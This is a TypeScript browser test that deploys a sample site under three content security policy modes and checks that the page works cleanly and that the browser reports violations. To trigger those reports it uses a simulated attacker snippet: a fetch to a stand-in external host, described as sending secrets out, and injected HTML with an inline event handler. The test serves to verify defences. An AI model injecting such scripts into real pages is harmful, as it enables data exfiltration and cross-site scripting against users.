import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { launchBrowser, visit } from "../support/browser";
import { DeployedWorld } from "../../rehearsal/driver/deployed-world";

const patiently = { timeout: 30_000 };
const tag = "c5b0000";

let system: DeployedWorld;
let browser: Browser;

beforeAll(async () => {
  system = await DeployedWorld.open();
  await system.release(tag);
  browser = await launchBrowser(system.target);
});
afterAll(async () => {
  await browser.close();
  await system.deploy();
});

/** Two actions of an attacker in the page: send its secrets to another server, and run a script. */
const attack = `
  fetch("https://elsewhere.test/").catch(() => undefined);
  document.body.insertAdjacentHTML("beforeend", '<b onclick="0">injected</b>')`;

describe.each([
  ["static", ["connect-src"]],
  ["nonce", ["connect-src", "script-src-attr"]],
  ["app", ["connect-src", "script-src-attr"]],
] as const)("the sample page under the content security policy mode %s", (mode, forbidden) => {
  beforeAll(async () => {
    await system.deploy(tag, system.otherCheckout({ "site.contentSecurityPolicy": mode }));
  });

  test("works completely in a browser, and the browser reports nothing", async () => {
    const { page, violations, errors } = await visit(browser, `https://${system.world.domain}/`);
    await expect.poll(() => page.locator("dd").allTextContents(), patiently).toEqual(Array(5).fill("works"));
    const look = `[getComputedStyle(document.querySelector("h1")).color, getComputedStyle(document.body).fontFamily]`;
    expect(await page.evaluate(look)).toEqual(["rgb(102, 51, 153)", "sans-serif"]);
    expect(await page.locator("#version").textContent()).toBe(tag);
    expect({ violations, errors }).toEqual({ violations: [], errors: [] });
    await page.context().close();
  });

  test("the browser reports each action that the mode forbids", async () => {
    const { page, violations } = await visit(browser, `https://${system.world.domain}/`);
    await page.evaluate(attack);
    await expect.poll(() => violations.toSorted(), patiently).toEqual(forbidden);
    await page.context().close();
  });
});
